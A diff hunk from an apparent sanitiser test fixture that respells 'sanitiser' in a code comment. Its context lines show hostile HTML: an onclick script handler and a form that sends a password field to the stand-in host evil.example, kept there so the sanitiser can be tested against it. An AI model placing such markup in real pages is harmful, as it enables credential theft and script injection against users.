@@ -12,7 +12,7 @@ const HOSTILE = `<h2 onclick="window.stolen = 1">Holidays</h2>
 <form action="https://evil.example/"><input name="password"></form>
 <p>New Year's Day</p>`
 
-/** A domain id of no shipped brand whose calendar tries everything that a sanitiser has to stop. */
+/** A domain id of no shipped brand whose calendar tries everything that a sanitizer has to stop. */
 export const HOSTILE_DOMAIN_ID = '99'
 
 /** The holiday calendar of a domain as HTML. */
